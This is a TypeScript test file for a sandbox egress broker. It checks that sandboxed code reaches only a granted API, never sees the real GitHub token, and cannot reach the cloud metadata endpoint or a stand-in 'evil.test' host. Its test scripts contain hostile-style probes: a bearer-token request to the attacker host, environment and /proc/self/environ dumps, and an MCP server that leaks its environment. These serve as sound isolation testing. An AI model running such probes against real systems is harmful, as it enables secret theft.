import assert from 'node:assert/strict';
import { chmodSync, chownSync, mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import http from 'node:http';
import { type AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { test, type TestContext } from 'node:test';
import { openEdge, type Edge } from '../../src/broker/edge.ts';
import { startEgressProxy } from '../../src/broker/egress-proxy.ts';
import type { LedgerEvent } from '../../src/contracts/ledger.ts';
import { openBwrap } from '../../src/sandbox/bwrap.ts';
import type { Sandbox } from '../../src/sandbox/sandbox.ts';
import { startMcpInSandbox } from '../../src/tools/mcp-in-sandbox.ts';
import { probeMcpServer } from '../../src/tools/mcp.ts';
import { whyNot } from './needs.ts';

const skip = whyNot('bwrap', 'python3');
const owner = { uid: 12_345, gid: 12_345 };
// not-a-secret: made up for this test
const value = 'ghp_0123456789abcdefghij0123456789abcdef';

interface World {
  readonly sandbox: Sandbox;
  readonly edge: Edge;
  readonly events: LedgerEvent[];
  readonly port: number;
  readonly seen: string[];
  readonly workspace: string;
  run(script: string): Promise<string>;
}

/** A sandbox whose only way out leads to a local API that may get one secret. */
async function open(t: TestContext): Promise<World> {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'broker-'));
  // Each user must be able to pass through to the folders that are theirs.
  for (const name of ['workspace', 'runtime']) mkdirSync(path.join(dir, name), { mode: 0o755 });
  chmodSync(dir, 0o711);
  const workspace = path.join(dir, 'workspace');
  chownSync(workspace, owner.uid, owner.gid);
  const seen: string[] = [];
  const server = http.createServer((request, response) => {
    seen.push(String(request.headers.authorization));
    response.end(`you are ${request.headers.authorization}`);
  });
  await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const events: LedgerEvent[] = [];
  const at = `api.test:${port}`;
  const edge = openEdge({
    run: { run: 'run_1', session: 'ses_1', agent: 'scout' },
    ledger: { append: async (event) => ({ stream: 'test', seq: events.push(event), hash: '' }) },
    clock: { now: () => Date.now() },
    grants: [{ host: 'api.test', port }],
    secrets: [{ name: 'GITHUB_TOKEN', value, hosts: [at], place: [{ in: 'header', name: 'authorization' }] }],
    lookup: async () => ['127.0.0.1'],
    allowLoopback: [at],
  });
  const proxy = await startEgressProxy(edge, { dir: path.join(dir, 'egress'), owner });
  const sandbox = await openBwrap({ runtimeDir: path.join(dir, 'runtime') }).start({
    label: 'broker',
    workspace,
    limits: {},
    network: { egressSocketDir: proxy.socketDir },
    env: { TOKEN: edge.placeholders.get('GITHUB_TOKEN')! },
  });
  t.after(async () => {
    await sandbox.stop();
    await proxy[Symbol.asyncDispose]();
    server.close();
    rmSync(dir, { recursive: true, force: true });
  });
  const run = async (script: string): Promise<string> => {
    const result = await sandbox.exec(['python3', '-c', script], { wallMs: 20_000 });
    return Buffer.concat([result.stdout, result.stderr]).toString();
  };
  return { sandbox, edge, events, port, seen, workspace, run };
}

const ask = (host: string, port: number): string => `
import os, socket
s = socket.socket(socket.AF_UNIX); s.connect('/run/egress/proxy.sock')
s.sendall(('GET http://${host}:${port}/ HTTP/1.1\\r\\nHost: ${host}:${port}\\r\\nAuthorization: Bearer ' + os.environ['TOKEN'] + '\\r\\nConnection: close\\r\\n\\r\\n').encode())
data = b''
while (part := s.recv(65536)): data += part
print(data.decode())
`;

test('a sandbox calls the granted API with a secret that it never sees, and fails at another host', { skip }, async (t) => {
  const at = await open(t);

  const granted = await at.run(ask('api.test', at.port));
  const other = await at.run(ask('evil.test', at.port));

  assert.match(granted, /^HTTP\/1\.1 200/);
  assert.deepEqual(at.seen, [`Bearer ${value}`]);
  assert.ok(!granted.includes(value));
  assert.match(other, /egress\.not-granted/);
  assert.ok(!(await at.run('import os; print(os.environ, open("/proc/self/environ").read())')).includes(value));
  assert.deepEqual(
    at.events.map((event) => event.type),
    ['egress.open', 'egress.close', 'egress.close'],
  );
});

test('beside the socket a sandbox reaches nothing', { skip }, async (t) => {
  const at = await open(t);

  const direct = await at.run(`import socket; socket.create_connection(('127.0.0.1', ${at.port}), 2)`);
  const metadata = await at.run(`import socket; socket.create_connection(('169.254.169.254', 80), 2)`);
  const names = await at.run(`import socket; socket.getaddrinfo('example.org', 80)`);

  for (const failed of [direct, metadata, names]) assert.match(failed, /error/i);
  assert.equal(at.seen.length, 0);
});

test('an MCP server runs as the one command of a sandbox, sees the placeholder only, and ends with it', { skip }, async (t) => {
  const at = await open(t);
  const script = `
import json, os, sys
for line in sys.stdin:
    m = json.loads(line)
    if 'id' not in m: continue
    if m['method'] == 'initialize': r = {'protocolVersion': '2025-06-18', 'capabilities': {'tools': {}}, 'serverInfo': {'name': 'x', 'version': '1'}}
    else: r = {'tools': [{'name': 'env', 'description': json.dumps(dict(os.environ)), 'inputSchema': {'type': 'object'}}]}
    print(json.dumps({'jsonrpc': '2.0', 'id': m['id'], 'result': r}), flush=True)
`;
  const server = { command: ['python3', '-c', script], env: { KEY: '{{secret:GITHUB_TOKEN}}' } };
  const start = startMcpInSandbox(server, { sandbox: async () => at.sandbox, placeholders: at.edge.placeholders });

  const { tools } = await probeMcpServer(start);

  const [tool] = tools;
  assert.ok(tool !== undefined);
  assert.ok(tool.description.includes(at.edge.placeholders.get('GITHUB_TOKEN')!));
  assert.ok(!tool.description.includes(value));
  await assert.rejects(async () => await at.sandbox.exec(['true']), { code: 'sandbox.gone' });
});
